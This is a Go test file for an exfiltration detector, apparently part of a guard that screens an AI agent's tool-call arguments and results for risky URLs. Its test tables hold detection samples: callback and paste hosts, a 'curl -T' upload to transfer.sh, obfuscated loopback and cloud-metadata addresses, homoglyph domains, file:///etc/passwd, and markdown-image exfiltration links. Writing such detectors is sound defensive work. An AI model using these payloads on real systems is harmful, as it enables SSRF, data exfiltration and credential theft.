package exfil_test

import (
	"os"
	"strings"
	"testing"

	"callgate/detectors"
	"callgate/detectors/exfil"
)

// open builds the detector from the shipped hosts.
func open(t testing.TB) *exfil.Detector {
	t.Helper()
	hosts, err := os.ReadFile("../../rego/facts/hosts.json")
	if err != nil {
		t.Fatal(err)
	}
	d, err := exfil.New(hosts)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// ruleTexts holds, for each rule, arguments that it must catch at least as bad
// as said, and arguments that it must not.
var ruleTexts = map[string]struct {
	severity     detectors.Severity
	catch, spare []string
}{
	"host_callback": {detectors.High,
		[]string{"https://webhook.site/abc", "http://x7.oast.fun", "webhook.site/abc-1", "see //a.oastify.com/x and", "![x](https://a.interact.sh/?q=1)", "HTTPS://WEBHOOK.SITE./", "https:webhook.site/x",
			`https:\/\/webhook.site\/x`, "https%3A%2F%2Fwebhook.site%2Fx"},
		[]string{"https://notwebhook.site/", "https://example.com/webhook.site", "https://webhook.site.example.com/"}},
	"host_tunnel":     {detectors.High, []string{"https://a1b2.ngrok-free.app/x", "https://x.trycloudflare.com"}, []string{"https://ngrok.example.com"}},
	"host_paste":      {detectors.High, []string{"https://pastebin.com/raw/x"}, []string{"paste it into the bin"}},
	"host_drop":       {detectors.High, []string{"curl -T x https://transfer.sh/x"}, []string{"https://example.com/transfer.sh"}},
	"host_share":      {detectors.Medium, []string{"https://mega.nz/file/x"}, []string{"mega.example.com"}},
	"host_webhook":    {detectors.Medium, []string{"https://discord.com/api/webhooks/1/x", "https://hooks.slack.com/services/T0/B0/x", "https://api.telegram.org/bot123:x/sendMessage"}, []string{"https://discord.com/channels/1", "https://api.telegram.org/"}},
	"host_redirector": {detectors.High, []string{"https://307.r3dir.me/--to/?url=x"}, []string{"https://r3.example.com"}},
	"host_shortener":  {detectors.Medium, []string{"https://bit.ly/x"}, []string{"https://bitly.example.com"}},
	"host_dynamic":    {detectors.Medium, []string{"http://me.duckdns.org/"}, []string{"http://duck.example.org/"}},
	"host_platform":   {detectors.Low, []string{"https://x.workers.dev/"}, []string{"https://workers.example.com/"}},
	"host_rebind":     {detectors.High, []string{"http://example.nip.io/"}, []string{"http://nip.example.com/"}},
	"host_lookalike":  {detectors.High, []string{"https://pаypal.com/", "https://xn--pypal-4ve.com/", "https://аррӏе.com/"}, []string{"https://münchen.example/", "https://пример.test/", "https://例え.test/"}},
	"host_disguised":  {detectors.Medium, []string{"http://ⓔⓧⓐⓜⓟⓛⓔ.com/"}, []string{"http://example.com/"}},
	"address_loopback": {detectors.High,
		[]string{"http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://0177.0.0.1/", "http://127.1", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://[64:ff9b::7f00:1]/",
			"http://0/", "http://localhost:8080/x", "http://a.localhost/", "http://127.0.0.1.nip.io/", "http://lvh.me/", "http://１２７.0.0.1/", "http://127.0.0.1!/", "http://127.1.1.1:80:\\@@127.2.2.2:80/",
			"http://example.com/?u=http://127.0.0.1/", "http://example.com/?u=http%3A%2F%2F127.0.0.1%2F", "http:\\\\127.0.0.1\\x"},
		[]string{"http://127.example.com/", "version 127.0.0", "http://8.8.8.8/"}},
	"address_private": {detectors.High,
		[]string{"http://10.0.0.1/", "http://192.168.1.1", "http://3232235777/", "http://172.16.0.9/", "http://169.254.1.1/", "http://100.64.0.1/", "http://[fd00::1]/", "http://[fe80::1]/", "http://db.internal/",
			"http://printer.local/", "http://intranet/", "http://10-0-0-1.nip.io/"},
		[]string{"http://172.32.0.1/", "http://11.0.0.1/", "https://internal.example.com/", "ratio 10.0.0.1.5"}},
	"address_metadata": {detectors.High,
		[]string{"http://169.254.169.254/latest/", "http://2852039166/", "http://[::ffff:a9fe:a9fe]/", "http://metadata.google.internal/x", "169.254.169.254", "http://100.100.100.200/", "http://[fd00:ec2::254]/",
			"http://169.254.169.254.nip.io/", "http://0xA9.0xFE.0xA9.0xFE"},
		[]string{"https://example.com/metadata/v1"}},
	"userinfo_host":     {detectors.High, []string{"https://bank.example.com@evil.test/", `https://evil.test\@bank.example.com/`}, []string{"https://git@example.com/x", "https://example.com/a@b.c"}},
	"userinfo_password": {detectors.Medium, []string{"https://user:pw@example.com/"}, []string{"https://user@example.com/"}},
	"scheme_file":       {detectors.High, []string{"file:///etc/passwd"}, []string{"the file: see below", "profile://x"}},
	"scheme_gopher":     {detectors.High, []string{"gopher://example.com:70/_x"}, []string{"gopher: an animal"}},
	"scheme_script":     {detectors.Medium, []string{"[x](javascript:alert(1))"}, []string{"javascript: the good parts"}},
	"scheme_data":       {detectors.Medium, []string{`<a href="data:text/html,<b>">`}, []string{"data:image/png;base64,iVBORw0KGgo", "data: text"}},
	"data_query": {detectors.High,
		[]string{"https://example.com/c?d=c2VjcmV0IHRva2VuIDEyMzQ1Njc4OTA=", "https://example.com/c?d=73656372657420746f6b656e", "https://example.com/c?d=%73%65%63%72%65%74%74%6f%6b%65%6e", "https://example.com/#c2VjcmV0IHRva2VuIDEyMzQ1Njc4OTA",
			"https://example.com/?k=%2541%254b%2549%2541%2549%254f%2553"},
		[]string{"https://example.com/search?q=how+to+fix+permission+denied&hl=en", "https://example.com/?q=%E3%83%91%E3%82%B9%E3%83%AF%E3%83%BC%E3%83%89", "https://example.com/?id=550e8400-e29b-41d4-a716-446655440000"}},
	"data_path": {detectors.High, []string{"https://example.com/x/c2VjcmV0IHRva2VuIDEyMzQ1Njc4OTA/y"}, []string{"https://example.com/a-long-title-of-an-article-about-many-things-of-2024", "https://example.com/550e8400-e29b-41d4-a716-446655440000/x"}},
	"data_host": {detectors.High, []string{"https://c2VjcmV0X3Rva2VuXzEyMzQ1.x.example.com/", "https://7365637265745f6170695f6b6579.example.com/", "https://a1b2c3d4.e5f6a7b8.c9d0e1f2.example.com/"}, []string{"https://static.production.eu-central-1.example.com/", "https://www.example.com/"}},
}

func TestRules(t *testing.T) {
	d := open(t)
	ran := 0
	for rule, c := range ruleTexts {
		for _, s := range c.catch {
			ran++
			if f := find(d, s, rule, detectors.Argument); f == nil || f.Severity < c.severity || f.Start < 0 || f.Start >= f.End || f.End > len(s) {
				t.Errorf("%s in %q: %+v", rule, s, f)
			}
		}
		for _, s := range c.spare {
			ran++
			if f := find(d, s, rule, detectors.Argument); f != nil {
				t.Errorf("%s fired on %q: %+v", rule, s, f)
			}
		}
	}
	if ran < 120 {
		t.Fatalf("ran %d cases", ran)
	}
}

func find(d *exfil.Detector, s, rule string, direction detectors.Direction) *detectors.Finding {
	for _, f := range d.Detect(s, &detectors.Setting{Direction: direction}) {
		if f.Rule == rule && f.Detector == "exfil" {
			return &f
		}
	}
	return nil
}

func TestDirections(t *testing.T) {
	d := open(t)
	cases := []struct {
		text, rule string
		direction  detectors.Direction
		want       detectors.Severity
	}{
		{"http://192.168.1.1/", "address_private", detectors.Argument, detectors.High},
		{"http://192.168.1.1/", "address_private", detectors.ResultText, detectors.Low},
		{"open http://localhost:3000", "address_loopback", detectors.ResultText, detectors.Low},
		{"https://pastebin.com/x", "host_paste", detectors.ResultText, detectors.Low},
		{"![x](https://pastebin.com/x)", "host_paste", detectors.ResultText, detectors.High},
		{`<img width=1 src="https://webhook.site/x">`, "host_callback", detectors.ResultText, detectors.High},
		{"https://example.com/?d=c2VjcmV0IHRva2VuIDEyMzQ1Njc4OTA", "data_query", detectors.ResultText, detectors.Low},
		{"![x](https://example.com/?d=c2VjcmV0IHRva2VuIDEyMzQ1Njc4OTA)", "data_query", detectors.ResultText, detectors.High},
		{"we use webhook.site for tests", "host_callback", detectors.Argument, detectors.Medium},
		{"10.0.0.1", "address_private", detectors.Argument, detectors.Medium},
		{"the server 10.0.0.1 is down", "address_private", detectors.Argument, detectors.Low},
	}
	for _, c := range cases {
		f := find(d, c.text, c.rule, c.direction)
		if f == nil || f.Severity != c.want {
			t.Errorf("%s in %s %q: %+v, want %s", c.rule, c.direction, c.text, f, c.want)
		}
	}
}

func TestCleanTextIsClean(t *testing.T) {
	d := open(t)
	for _, s := range []string{
		"", "See https://docs.example.com/guide?page=2#top, or mail bob@example.com.", "e.g. a.b.c = d; std::vector<int> x; // note: done", "C:\\Users\\bob\\x.txt", "at 10:30, ratio 3:1, v1.2.3",
		"https://example.com/a/b.tar.gz", "git@example.com:org/repo.git", "ssh://git@example.com/x.git", "https://example.com/watch?v=dQw4w9WgXcQ&t=10s", "postgres://db.example.com/x", "urn:isbn:123", "http://{host}/x",
	} {
		for _, f := range d.Detect(s, &detectors.Setting{Direction: detectors.Argument}) {
			t.Errorf("%q: %+v", s, f)
		}
	}
}

func TestHiddenURLHasItsPlaceInTheRawText(t *testing.T) {
	const url = "https://web\u200bhook.site/x"
	raw := "größer " + url + " end"
	f := find(open(t), raw, "host_callback", detectors.Argument)
	if f == nil || raw[f.Start:f.End] != url {
		t.Errorf("found %+v", f)
	}
}

func TestNewRefuses(t *testing.T) {
	for _, bad := range []string{``, `{"hosts":{"nonsense":["x"]}}`, `{"other":1}`} {
		if _, err := exfil.New([]byte(bad)); err == nil {
			t.Errorf("%s was read", bad)
		}
	}
}

func FuzzDetect(f *testing.F) {
	d := open(f)
	for _, c := range ruleTexts {
		f.Add(c.catch[0], false)
	}
	f.Add("http://[::1%25x]:99999//\\@%%3A%2F%2F)(://", true)
	f.Fuzz(func(t *testing.T, s string, result bool) {
		at := detectors.Setting{Direction: detectors.Argument}
		if result {
			at.Direction = detectors.ResultText
		}
		last := 0
		for _, found := range d.Detect(s, &at) {
			if found.Start < last || found.Start > found.End || found.End > len(s) || found.Rule == "" {
				t.Fatalf("%+v in %d bytes after %d", found, len(s), last)
			}
			last = found.Start
		}
	})
}

const englishLine = "The quarterly report is ready: see https://example.com/reports/2026?page=2 and mail bob@example.com before Monday at ten.\n"

func benchmarkDetect(b *testing.B, text string, found bool) {
	d, at := open(b), &detectors.Setting{Direction: detectors.Argument}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if (d.Detect(text, at) != nil) != found {
			b.Fatal("wrong answer")
		}
	}
}

func BenchmarkPlain10KB(b *testing.B) {
	benchmarkDetect(b, strings.Repeat("The quarterly report is ready; the team has read it and will meet on Monday.\n", 132), false)
}
func BenchmarkLinks10KB(b *testing.B) { benchmarkDetect(b, strings.Repeat(englishLine, 85), false) }
func BenchmarkLinks1MB(b *testing.B)  { benchmarkDetect(b, strings.Repeat(englishLine, 8500), false) }
func BenchmarkNested100KB(b *testing.B) {
	benchmarkDetect(b, strings.Repeat("http://127.0.0.1/?", 5700), true)
}
